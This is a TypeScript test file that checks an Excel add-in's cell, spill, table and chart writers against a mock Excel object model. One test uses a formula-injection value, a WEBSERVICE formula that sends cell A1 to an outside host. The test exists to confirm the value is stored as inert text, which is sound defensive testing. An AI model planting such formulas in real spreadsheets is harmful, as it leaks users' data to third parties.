/**
 * The Excel writers (addin/excel-actions.ts) against a STAND-IN for Excel's object model — Excel cannot
 * run here. The stand-in is a grid of cells with the few Range members the writers use (getCell,
 * getResizedRange, getIntersection, spill parent / spill range, numberFormat, values, tables, charts);
 * it records what a writer sets, so the tests check what would reach the workbook.
 */
import { errorCell } from '../../src/sheet/cells.js';
import { insertChart, insertFormula, insertValues, pinSelection, readSelectedColumn, writeBeside } from '../../addin/excel-actions.js';
import { setLikeExcel, type Cell } from './workbook-stand-in.js';


class StandInSheet {
  cells = new Map<string, Cell>();
  tables: string[] = [];
  charts: { type: string; source: string; title: string }[] = [];
  /** A spill: anchor → the rectangle it fills. */
  spills: { anchor: [number, number]; rows: number; columns: number }[] = [];
  cell(row: number, column: number): Cell {
    const key = `${row},${column}`;
    let cell = this.cells.get(key);
    if (!cell) {
      cell = { value: '', format: 'General' };
      this.cells.set(key, cell);
    }
    return cell;
  }
}

const letters = (column: number): string => String.fromCharCode(65 + column);

class StandInRange {
  isNullObject = false;
  constructor(
    readonly sheet: StandInSheet,
    readonly row: number,
    readonly column: number,
    readonly rows = 1,
    readonly columns = 1,
  ) {}
  get address(): string {
    return `Sheet1!${letters(this.column)}${this.row + 1}:${letters(this.column + this.columns - 1)}${this.row + this.rows}`;
  }
  get worksheet() {
    return {
      getUsedRange: () => {
        let rows = 0;
        let columns = 0;
        for (const [key, cell] of this.sheet.cells) {
          if (cell.value === '' && !cell.formula) continue;
          const [r, c] = key.split(',').map(Number) as [number, number];
          rows = Math.max(rows, r + 1);
          columns = Math.max(columns, c + 1);
        }
        return new StandInRange(this.sheet, 0, 0, rows, columns);
      },
      tables: { add: (range: StandInRange) => this.sheet.tables.push(range.address) },
      charts: {
        add: (type: string, range: StandInRange) => {
          const chart = { type, source: range.address, title: '' };
          this.sheet.charts.push(chart);
          return { title: { set text(text: string) { chart.title = text; } } };
        },
      },
    };
  }
  getCell(row: number, column: number) {
    return new StandInRange(this.sheet, this.row + row, this.column + column);
  }
  getColumn(column: number) {
    return new StandInRange(this.sheet, this.row, this.column + column, this.rows, 1);
  }
  getResizedRange(rows: number, columns: number) {
    return new StandInRange(this.sheet, this.row, this.column, this.rows + rows, this.columns + columns);
  }
  getIntersection(other: StandInRange) {
    const row = Math.max(this.row, other.row);
    const column = Math.max(this.column, other.column);
    return new StandInRange(this.sheet, row, column, Math.min(this.row + this.rows, other.row + other.rows) - row, Math.min(this.column + this.columns, other.column + other.columns) - column);
  }
  getIntersectionOrNullObject(other: StandInRange) {
    const range = this.getIntersection(other);
    if (range.rows <= 0 || range.columns <= 0) range.isNullObject = true;
    return range;
  }
  getSpillParentOrNullObject() {
    const spill = this.sheet.spills.find((s) => this.row >= s.anchor[0] && this.row < s.anchor[0] + s.rows && this.column >= s.anchor[1] && this.column < s.anchor[1] + s.columns);
    const parent = new StandInRange(this.sheet, spill?.anchor[0] ?? 0, spill?.anchor[1] ?? 0);
    parent.isNullObject = !spill;
    return parent;
  }
  getSpillingToRange() {
    const spill = this.sheet.spills.find((s) => s.anchor[0] === this.row && s.anchor[1] === this.column);
    return new StandInRange(this.sheet, this.row, this.column, spill?.rows ?? 1, spill?.columns ?? 1);
  }
  private grid<T>(read: (cell: Cell) => T): T[][] {
    return Array.from({ length: this.rows }, (_, r) => Array.from({ length: this.columns }, (_, c) => read(this.sheet.cell(this.row + r, this.column + c))));
  }
  get values(): unknown[][] {
    return this.grid((cell) => cell.value);
  }
  set values(values: unknown[][]) {
    values.forEach((row, r) => {
      row.forEach((value, c) => {
        setLikeExcel(this.sheet.cell(this.row + r, this.column + c), value);
      });
    });
  }
  get numberFormat(): unknown[][] {
    return this.grid((cell) => cell.format);
  }
  set numberFormat(formats: unknown[][]) {
    formats.forEach((row, r) => { row.forEach((format, c) => (this.sheet.cell(this.row + r, this.column + c).format = String(format))); });
  }
  set formulas(formulas: unknown[][]) {
    formulas.forEach((row, r) => { row.forEach((formula, c) => (this.sheet.cell(this.row + r, this.column + c).formula = String(formula))); });
  }
  load(): void {}
}

let sheet: StandInSheet;
let selection: StandInRange;

beforeEach(() => {
  sheet = new StandInSheet();
  selection = new StandInRange(sheet, 1, 1);
  const context = {
    workbook: {
      getSelectedRange: () => selection,
      worksheets: { getActiveWorksheet: () => ({ getRange: () => selection }), getItem: () => ({ getRange: (address: string) => rangeOf(address) }) },
      application: { calculate: () => undefined },
    },
    sync: () => Promise.resolve(),
  };
  Object.assign(globalThis, {
    Excel: {
      run: (callback: (c: typeof context) => Promise<unknown>) => callback(context),
      ChartType: { columnClustered: 'ColumnClustered' },
      ChartSeriesBy: { columns: 'Columns' },
      CalculationType: { full: 'Full' },
    },
  });
});

/** "A2:C4" → a stand-in range. */
function rangeOf(address: string): StandInRange {
  const [from = 'A1', to = from] = address.split(':');
  const parse = (cell: string): [number, number] => [Number(cell.slice(1)) - 1, cell.charCodeAt(0) - 65];
  const [r1, c1] = parse(from);
  const [r2, c2] = parse(to);
  return new StandInRange(sheet, r1, c1, r2 - r1 + 1, c2 - c1 + 1);
}

test('values stay what the service said: a crawled "=…" name stays text, codes keep their zeros and dots, numbers stay numbers', async () => {
  await insertValues(
    [
      ['domain', 'name', 'nace_code', 'municipality_code', 'employees'],
      ['evil.example', '=WEBSERVICE("https://x.test/?"&A1)', '38.10', '06635003', 12],
      ['plain.example', errorCell('#N/A', 'not in the index'), '', null, 3],
    ],
    true,
  );
  expect(sheet.cell(2, 2).formula).toBeUndefined();
  expect(sheet.cell(2, 2).value).toBe('=WEBSERVICE("https://x.test/?"&A1)');
  expect(sheet.cell(2, 3).value).toBe('38.10');
  expect(sheet.cell(2, 4).value).toBe('06635003');
  expect(sheet.cell(2, 5)).toEqual({ value: 12, format: 'General' });
  expect(sheet.cell(3, 2).value).toBe('#N/A not in the index');
  expect(sheet.tables).toEqual(['Sheet1!B2:F4']);
});

test('enrichment writes beside the selected column, chunk by chunk', async () => {
  for (let r = 1; r <= 4; r++) sheet.cell(r, 0).value = `d${r}.example`;
  selection = new StandInRange(sheet, 0, 0, 1_048_576, 1);
  const column = await readSelectedColumn();
  expect(column).toEqual({ address: 'Sheet1!A1:A5', values: ['', 'd1.example', 'd2.example', 'd3.example', 'd4.example'] });
  await writeBeside(column.address, 3, [['Name 3', '0042'], ['Name 4', 'DE']]);
  expect([sheet.cell(3, 1).value, sheet.cell(3, 2).value, sheet.cell(4, 1).value]).toEqual(['Name 3', '0042', 'Name 4']);
});

test('Pin as values, from any cell of a spill, pins the whole spill and keeps number formats', async () => {
  sheet.spills.push({ anchor: [1, 1], rows: 3, columns: 2 });
  for (let r = 1; r <= 3; r++) {
    sheet.cell(r, 1).value = `org${r}.example`;
    sheet.cell(r, 2).value = 40_000 + r;
    sheet.cell(r, 2).format = 'yyyy-mm-dd';
  }
  sheet.cell(1, 1).formula = '=ORG.SEARCH("solar")';
  selection = new StandInRange(sheet, 2, 2);
  await pinSelection();
  expect(sheet.cell(1, 1)).toEqual({ value: 'org1.example', format: '@' });
  expect(sheet.cell(3, 2)).toEqual({ value: 40_003, format: 'yyyy-mm-dd' });
});

test('formula, chart', async () => {
  await insertFormula('=ORG.STATS("country")');
  expect(sheet.cell(1, 1).formula).toBe('=ORG.STATS("country")');
  selection = new StandInRange(sheet, 5, 0);
  await insertChart([['organization_type', 'count'], ['Company', 10]], 'Organizations by organization_type');
  expect(sheet.charts).toEqual([{ type: 'ColumnClustered', source: 'Sheet1!A6:B7', title: 'Organizations by organization_type' }]);
});
